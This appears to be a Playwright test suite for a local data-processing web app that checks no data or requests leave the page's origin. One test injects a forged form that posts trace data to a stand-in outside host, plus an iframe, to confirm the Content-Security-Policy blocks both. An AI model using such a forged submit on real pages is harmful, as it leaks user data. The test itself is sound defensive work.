import { expect, test, type Page, type Request } from '@playwright/test';
import { execSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { openWithDemo, trace } from './helpers.ts';

// Issue 13, "Nothing leaves": the plot toolbars offered a sharing button that opened an upload
// dialog on another host. Every control of the page is clicked here with a request log; nothing
// may go to another origin, no window may open, and the page's configuration names no other host.

/** Toolbar buttons that act inside the page (src/ui/plot-config.ts). */
const LOCAL_TOOLBAR = ['toImage', 'zoom2d', 'pan2d', 'select2d', 'zoomIn2d', 'zoomOut2d', 'autoScale2d', 'resetScale2d'];

function foreign(requests: readonly Request[], origin: string): string[] {
  return requests.map((r) => r.url()).filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== origin);
}

async function addStep(page: Page, id: string) {
  await page.selectOption('#add-step-choice', id);
  await page.getByRole('button', { name: 'Add step' }).click();
}

/** Show the small step plots: the frequency filter's spectrum and the local order's choice of order. */
async function withStepFigures(page: Page) {
  await addStep(page, 'frequency-filter');
  await addStep(page, 'local-order');
  await expect(page.getByTestId('step-figure')).toHaveCount(2, { timeout: 20_000 });
}

test('every toolbar button of every plot and every button of the page: no request leaves the origin, no window opens', async ({ page, context }) => {
  test.setTimeout(240_000);
  const requests: Request[] = [];
  const popups: string[] = [];
  context.on('request', (r) => requests.push(r));
  context.on('page', (p) => { if (p !== page) popups.push(p.url()); });
  page.on('dialog', (d) => void d.dismiss());
  page.on('download', (d) => void d.cancel());
  await openWithDemo(page);
  const origin = new URL(page.url()).origin;
  await withStepFigures(page);

  // Every toolbar of every figure: only the local buttons exist, and each is clicked.
  const figures = page.locator('.js-plotly-plot');
  expect(await figures.count()).toBe(3);
  let clicked = 0;
  for (let f = 0; f < 3; f++) {
    const fig = figures.nth(f);
    await fig.hover();
    const buttons = fig.locator('.modebar-btn');
    const names = await buttons.evaluateAll((els) => els.map((e) => e.getAttribute('data-title') ?? ''));
    expect(names.length).toBe(LOCAL_TOOLBAR.length);
    expect(names.join('|')).not.toMatch(/share|cloud|edit|chart studio|plotly/i);
    for (let b = 0; b < names.length; b++) {
      await fig.hover();
      await buttons.nth(b).click();
      clicked++;
      await page.waitForTimeout(100);
    }
  }
  expect(clicked).toBe(3 * LOCAL_TOOLBAR.length);
  expect(await page.locator('.plotly-cloud-dialog-box').count()).toBe(0);

  // Every button of the page, in page order, each once (a button an earlier click removed is passed over).
  // "Unload" and the final "Yes, start over" come last, so the others act on a loaded page.
  const labels = await page.locator('button:visible').evaluateAll((els) => els.map((e) => (e.getAttribute('aria-label') ?? e.textContent ?? '').trim()));
  expect(labels.length).toBeGreaterThan(30);
  const late = (l: string) => /^Unload|^Remove|^Dismiss/.test(l);
  const order = [...labels.filter((l) => !late(l)), ...labels.filter(late)];
  let pressed = 0;
  for (const label of order) {
    const button = page.getByRole('button', { name: label, exact: true }).first();
    if (!(await button.isVisible().catch(() => false)) || !(await button.isEnabled().catch(() => false))) continue;
    await button.click({ timeout: 3000 }).then(() => { pressed++; }, () => undefined);
    await page.waitForTimeout(60);
  }
  expect(pressed).toBeGreaterThan(25);
  // Start over reloads the page; it too must stay at home.
  if (!(await page.getByTestId('start-over-confirm').isVisible())) await page.getByTestId('start-over').click();
  await page.getByTestId('start-over-confirm').click();
  await expect(page.getByRole('heading', { name: /demo-sample\.csv/ })).toBeVisible({ timeout: 30_000 });

  expect(foreign(requests, origin)).toEqual([]);
  expect(popups).toEqual([]);
});

test('with the network cut the page still loads a file, processes it and exports it', async ({ page, context }) => {
  const requests: Request[] = [];
  context.on('request', (r) => requests.push(r));
  await openWithDemo(page);
  const origin = new URL(page.url()).origin;
  // Nothing may reach the network from here on: offline, and any request that still tries is aborted.
  await context.setOffline(true);
  await context.route('**/*', (route) => (route.request().url().startsWith(origin) ? route.fallback() : route.abort()));
  await page.getByTestId('file-input').setInputFiles('test/fixtures/hostile/x-descending.csv');
  await expect.poll(async () => (await trace(page, 'raw'))?.x.length).toBe(10);
  await addStep(page, 'moving-average');
  await expect(page.getByTestId('residual-verdict')).toBeVisible({ timeout: 30_000 });
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-cleaned-csv').click()]);
  const text = readFileSync((await download.path())!, 'utf8');
  expect(text).toContain('x-descending.csv');
  expect(text).toContain('moving-average');
  expect(foreign(requests, origin)).toEqual([]);
  await context.setOffline(false);
});

test('the plot library’s merged configuration and every address in the page name only this origin', async ({ page }) => {
  await openWithDemo(page);
  await withStepFigures(page);
  const origin = new URL(page.url()).origin;
  const found = await page.evaluate(() => {
    const out: { figure: number; path: string; value: string }[] = [];
    const flags: Record<string, unknown>[] = [];
    const walk = (v: unknown, path: string, figure: number, depth: number) => {
      if (depth > 6 || v === null || v === undefined) return;
      if (typeof v === 'string') { out.push({ figure, path, value: v }); return; }
      if (typeof v === 'object') for (const [k, w] of Object.entries(v as Record<string, unknown>)) walk(w, `${path}.${k}`, figure, depth + 1);
    };
    const figs = Array.from(document.querySelectorAll('.js-plotly-plot')) as unknown as { _context: Record<string, unknown> }[];
    figs.forEach((gd, i) => {
      walk(gd._context, 'config', i, 0);
      const c = gd._context;
      flags.push({ showSendToCloud: c.showSendToCloud, plotlyServerURL: c.plotlyServerURL, displaylogo: c.displaylogo, modeBarButtons: c.modeBarButtons });
    });
    const addresses: string[] = [];
    for (const el of Array.from(document.querySelectorAll('*'))) {
      for (const attr of ['href', 'src', 'action', 'formaction', 'ping', 'xlink:href', 'data', 'poster', 'background']) {
        const v = el.getAttribute(attr);
        if (v) addresses.push(new URL(v, document.baseURI).href);
      }
    }
    return { strings: out, flags, addresses, plotlyEnv: typeof (window as unknown as { PLOTLYENV?: unknown }).PLOTLYENV, figures: figs.length };
  });
  expect(found.figures).toBe(3);
  for (const f of found.flags) {
    expect(f.showSendToCloud).toBe(false);
    expect(f.plotlyServerURL).toBe('');
    expect(f.displaylogo).toBe(false);
    expect((f.modeBarButtons as string[][]).flat()).toEqual(LOCAL_TOOLBAR);
  }
  // The library also reads a global server address; the page never sets one.
  expect(found.plotlyEnv).toBe('undefined');
  // Every string of every figure's merged configuration that is an address points home.
  const remote = found.strings.filter((s) => /^[a-z][a-z0-9+.-]*:\/\//i.test(s.value.trim()) && new URL(s.value).origin !== origin);
  expect(remote).toEqual([]);
  const resolvedTopojson = found.strings.find((s) => s.path === 'config.topojsonURL');
  expect(resolvedTopojson?.value).toBe('./');
  // Every address in the page: this origin, or data made in the page.
  const away = found.addresses.filter((a) => !a.startsWith('data:') && !a.startsWith('blob:') && new URL(a).origin !== origin);
  expect(away).toEqual([]);
});

test('the built bundle and the built page: no code of ours opens a window or another origin, and the page links nowhere else', () => {
  const html = readFileSync('dist/index.html', 'utf8');
  for (const m of html.matchAll(/\s(?:href|src|action)="([^"]+)"/g)) expect(m[1], m[0]).not.toMatch(/^[a-z][a-z0-9+.-]*:\/\//i);
  const manifest = JSON.parse(readFileSync('dist/manifest.webmanifest', 'utf8')) as { start_url: string; scope: string; icons: { src: string }[] };
  for (const u of [manifest.start_url, manifest.scope, ...manifest.icons.map((i) => i.src)]) expect(u).not.toMatch(/^[a-z][a-z0-9+.-]*:\/\//i);
  // Our own code (the library is checked in the page above): no window.open, no location change, no absolute address.
  const ours = (file: string) => readFileSync(file, 'utf8');
  const files = execSync('git ls-files src', { encoding: 'utf8' }).split('\n').filter((f) => /\.(ts|tsx|js)$/.test(f));
  expect(files.length).toBeGreaterThan(50);
  for (const f of files) {
    const code = ours(f).replace(/\/\*[\s\S]*?\*\//g, '').replace(/(^|[^:])\/\/.*$/gm, '$1');
    expect(code, f).not.toMatch(/window\.open\s*\(|location\.(assign|replace)\s*\(|location\.href\s*=|\.postMessage\s*\([^)]*,\s*['"]https?:/);
    expect(code.match(/['"`]https?:\/\/[^'"`]*/g) ?? [], f).toEqual([]);
  }
});

test('the Content-Security-Policy blocks a forged form submit and a frame to another origin', async ({ page }) => {
  const requests: Request[] = [];
  page.on('request', (r) => requests.push(r));
  const violations: string[] = [];
  await page.exposeFunction('__reportViolation', (v: string) => violations.push(v));
  await page.addInitScript(() => {
    // Init scripts also run in the service worker, which has no document.
    if (typeof document === 'undefined') return;
    document.addEventListener('securitypolicyviolation', (e) => {
      (window as unknown as { __reportViolation: (v: string) => void }).__reportViolation(`${e.effectiveDirective} ${e.blockedURI}`);
    });
  });
  await openWithDemo(page);
  const before = page.url();
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://upload.example.invalid/collect';
    const field = document.createElement('input');
    field.name = 'trace';
    field.value = '1,2,3';
    form.appendChild(field);
    document.body.appendChild(form);
    form.submit();
    const frame = document.createElement('iframe');
    frame.src = 'https://frame.example.invalid/';
    document.body.appendChild(frame);
  });
  await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
  expect(violations.some((v) => v.startsWith('form-action'))).toBe(true);
  expect(violations.some((v) => v.startsWith('frame-src'))).toBe(true);
  await page.waitForTimeout(500);
  expect(page.url()).toBe(before);
  expect(requests.map((r) => r.url()).filter((u) => u.includes('example.invalid'))).toEqual([]);
  // The policy in the built page names both directives.
  const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(readFileSync('dist/index.html', 'utf8'))![1];
  for (const d of ["form-action 'none'", "connect-src 'self'", "frame-src 'none'"]) expect(csp.split(';').map((s) => s.trim())).toContain(d);
});
